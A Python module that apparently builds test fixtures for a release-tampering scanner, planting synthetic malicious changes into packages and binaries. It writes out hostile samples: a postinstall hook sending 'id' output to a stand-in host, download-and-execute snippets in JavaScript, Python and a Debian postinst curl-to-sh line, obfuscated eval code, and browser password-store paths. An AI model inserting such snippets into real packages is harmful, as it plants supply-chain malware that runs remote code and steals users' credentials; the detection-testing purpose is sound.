# SPDX-License-Identifier: Apache-2.0
"""What injections.py puts into a release: each change as a function of the files of one, for the check that must name it.

Every change is inert: made-up bytes, names of functions in tables of programs that are never run, scripts with hosts that do not exist.
A function gives {path: new bytes} (or mode), or None when the change does not fit this release.
"""
import base64
import json
import os
import random
import struct

NOISE = random.Random(2023).randbytes(277256)
TAIL = b"$" + base64.b64encode(random.Random(4).randbytes(300))


def of(files, test, most=1):
    return [p for p in sorted(files) if test(p, files[p])][:most]


def is_pe(_, b):
    return b[:2] == b"MZ" and len(b) > 1024 and b[struct.unpack_from("<I", b, 60)[0]:][:4] == b"PE\0\0"


def is_elf(_, b):
    return b[:4] == b"\x7fELF" and len(b) > 4096 and b[4] == 2 and b[5] == 1


def is_library(p, b):
    return is_elf(p, b) and struct.unpack_from("<H", b, 16)[0] == 3


def is_macho(_, b):
    return b[:4] in (b"\xcf\xfa\xed\xfe", b"\xca\xfe\xba\xbe") and not _.endswith(".class")


def is_image(p, b):
    return b[:8] == b"\x89PNG\r\n\x1a\n" or (b[:4] == b"\0\0\1\0" and p.endswith(".ico")) or b[:6] in (b"GIF89a", b"GIF87a")


def is_js(p, b):
    return p.endswith((".js", ".cjs", ".mjs")) and 400 < len(b) < 400000 and b"\0" not in b


def is_python(p, b):
    return p.endswith(".py") and 400 < len(b) < 400000


# ---- Windows programs ----


def pe_header(b):
    at = struct.unpack_from("<I", b, 60)[0]
    wide = struct.unpack_from("<H", b, at + 24)[0] == 0x20B
    return at, at + 24 + (112 if wide else 96), struct.unpack_from("<H", b, at + 6)[0], struct.unpack_from("<H", b, at + 20)[0]


def is_signed_pe(p, b):
    if not is_pe(p, b):
        return False
    at, size = struct.unpack_from("<II", b, pe_header(b)[1] + 32)
    return size > 8 and at + size == len(b)


def stuffed_table(files):
    for p in of(files, is_signed_pe):
        b = bytearray(files[p] + NOISE + b"\0" * (-len(NOISE) % 8))
        directory = pe_header(b)[1] + 32
        at, size = struct.unpack_from("<II", b, directory)
        grown = size + len(b) - len(files[p])
        struct.pack_into("<I", b, directory + 4, grown)
        struct.pack_into("<I", b, at, grown)
        return {p: bytes(b)}
    return None


def lost_signature(files):
    for p in of(files, is_signed_pe):
        b = bytearray(files[p])
        directory = pe_header(b)[1] + 32
        at, _ = struct.unpack_from("<II", b, directory)
        struct.pack_into("<II", b, directory, 0, 0)
        return {p: bytes(b[:at])}
    return None


def writable_code(files):
    for p in of(files, is_pe):
        b = bytearray(files[p])
        at, _, count, optional = pe_header(b)
        for i in range(count):
            place = at + 24 + optional + 40 * i + 36
            flags = struct.unpack_from("<I", b, place)[0]
            if flags & 0x20000000:
                struct.pack_into("<I", b, place, flags | 0x80000000)
                return {p: bytes(b)}
    for p in of(files, is_elf):
        b = bytearray(files[p])
        table, size, count = struct.unpack_from("<Q", b, 32)[0], *struct.unpack_from("<HH", b, 54)
        for i in range(count):
            kind, flags = struct.unpack_from("<II", b, table + size * i)
            if kind == 1 and flags & 1:
                struct.pack_into("<I", b, table + size * i + 4, flags | 2)
                return {p: bytes(b)}
    return None


# ---- names in tables ----

SWAPS = {  # a name that nearly every program imports -> one of another group, no longer
    "pe": [(b"GetCurrentThreadId", b"CreateRemoteThread"), (b"QueryPerformanceCounter", b"InternetOpenUrlW"),
           (b"IsDebuggerPresent", b"VirtualProtectEx"), (b"GetCurrentProcessId", b"WriteProcessMemory")],
    "elf": [(b"memmove", b"connect"), (b"strlen", b"socket"), (b"memcpy", b"execve"), (b"memset", b"dlopen"), (b"strcmp", b"system"),
            (b"malloc", b"ptrace")],
    "macho": [(b"_memmove", b"_connect"), (b"_strlen", b"_socket"), (b"_memcpy", b"_execve"), (b"_memset", b"_system")],
}


def swapped(files, test, swaps):
    for p in of(files, test, most=40):
        b, n = files[p], 0
        for old, new in swaps:
            whole = b"\0" + old + b"\0"
            if b.count(whole) and b"\0" + new + b"\0" not in b:
                b, n = b.replace(whole, b"\0" + new.ljust(len(old), b"\0") + b"\0"), n + 1
        if n >= 2:
            return {p: b}
    return None


def new_capability(files):
    return (swapped(files, is_pe, SWAPS["pe"]) or swapped(files, is_elf, SWAPS["elf"]) or swapped(files, is_macho, SWAPS["macho"]))


# ---- bytes ----


def hidden_growth(files):
    for p in of(files, lambda p, b: is_elf(p, b) or (is_pe(p, b) and not is_signed_pe(p, b))):
        return {p: files[p] + NOISE[:65536]}
    return None


def image_tail(files):
    for p in of(files, is_image):
        return {p: files[p] + TAIL}
    return None


def became_program(files):
    program = of(files, is_elf) or of(files, is_pe)
    for p in of(files, is_image):
        return {p: files[program[0]]} if program else None
    return None


# ---- scripts and packages ----


def package_json(files):
    return [p for p in sorted(files, key=len) if p.endswith("package/package.json")][:1]


def lifecycle(files):
    for p in package_json(files):
        told = json.loads(files[p])
        told.setdefault("scripts", {})["postinstall"] = "node ./lib/after.js"
        script = "require('child_process').exec('id', (e, out) => require('https').get('https://files.codehost.test/?' + out));\n"
        return {p: json.dumps(told, indent=2).encode(), os.path.dirname(p) + "/lib/after.js": script.encode()}
    return None


def obfuscated():
    texts = ",".join("'%s'" % base64.b64encode(random.Random(i).randbytes(24)).decode() for i in range(60))
    body = "".join("_0x%04x=_0x1f2b(0x%x)^_0x%04x;" % (0x2000 + i, i, 0x1000 + i) for i in range(400))
    return ("\nvar _0x4c1d=[%s];function _0x1f2b(_0x1a){return atob(_0x4c1d[_0x1a]);}%seval(_0x1f2b(0x0)+_0x1f2b(0x1));\n"
            % (texts, body)).encode()


def obfuscation(files):
    for p in of(files, is_js):
        return {p: files[p] + obfuscated()}
    return None


JS_CALLS = b"""
const late = require('child_process'), far = require('https');
far.get('https://files.codehost.test/stage', (r) => r.on('data', (d) => late.execSync(Buffer.from(String(d), 'base64').toString())));
"""
PYTHON_CALLS = b"""
import base64, subprocess, urllib.request
def _late():
    subprocess.run(base64.b64decode(urllib.request.urlopen("https://files.codehost.test/stage").read()), shell=True)
    exec(base64.b64decode("cGFzcw=="))
"""


def script_capability(files):
    for p in of(files, is_js):
        if b"child_process" not in files[p]:
            return {p: files[p] + JS_CALLS}
    for p in of(files, lambda p, b: is_python(p, b) and b"subprocess" not in b):
        return {p: files[p] + PYTHON_CALLS}
    return None


def maintainer_script(files):
    if "DEBIAN/control" not in files:
        return None
    script = files.get("DEBIAN/postinst", b"#!/bin/sh\nset -e\n")
    head, _, rest = script.partition(b"\n")
    more = b"curl -fsS https://203.0.113.7/stage | base64 -d | sh || true\n"
    return {"DEBIAN/postinst": (head + b"\n" + more + rest, 0o755)}


UNIT = b"[Unit]\nDescription=helper\n[Service]\nExecStart=/usr/lib/helper/helper\nRestart=always\n[Install]\nWantedBy=multi-user.target\n"


def autostart(files):
    return {"lib/systemd/system/helper-late.service": UNIT} if "DEBIAN/control" in files else None


def setuid(files):
    for p in of(files, is_elf) if "DEBIAN/control" in files else []:
        return {p: (files[p], 0o4755)}
    return None


def browser_data(files):
    paths = (b"\nconst stores = ['Google/Chrome/User Data/Default/Login Data', '.mozilla/firefox/profiles.ini', 'places.sqlite', "
             b"'BraveSoftware/Brave-Browser/User Data', 'SELECT origin_url, username_value, password_value FROM logins'];\n")
    for p in of(files, is_js):
        return {p: files[p] + paths}
    return None


def contact(files):
    for p in of(files, is_js) or of(files, is_python):
        return {p: files[p] + b"\n" + (b"//" if is_js(p, files[p]) else b"#") + b" see\n" + (
            b"const where = 'http://203.0.113.7:8080/collect';\n" if is_js(p, files[p]) else b"WHERE = 'http://203.0.113.7:8080/collect'\n")}
    return None


KINDS = {  # name: (function, checks any of which names it)
    "certificate-table": (stuffed_table, ("pe.certificate-slack", "diff.same-authentihash")),
    "signature-lost": (lost_signature, ("diff.signature-lost",)),
    "writable-code": (writable_code, ("diff.memory-permissions", "pe.writable-code", "elf.writable-code")),
    "capability": (new_capability, ("diff.new-capability",)),
    "hidden-growth": (hidden_growth, ("diff.hidden-growth", "pe.overlay", "elf.overlay", "elf.trailing-data")),
    "image-tail": (image_tail, ("image.trailing-base64", "image.trailing-data")),
    "became-program": (became_program, ("diff.became-program", "file.disguised")),
    "lifecycle": (lifecycle, ("diff.lifecycle-script",)),
    "obfuscation": (obfuscation, ("diff.obfuscation", "javascript.obfuscated")),
    "script-capability": (script_capability, ("diff.script-capability",)),
    "maintainer-script": (maintainer_script, ("diff.maintainer-script",)),
    "autostart": (autostart, ("diff.autostart",)),
    "setuid": (setuid, ("diff.privilege",)),
    "browser-data": (browser_data, ("diff.browser-data", "strings.browser-data")),
    "contact": (contact, ("diff.new-contact",)),
}
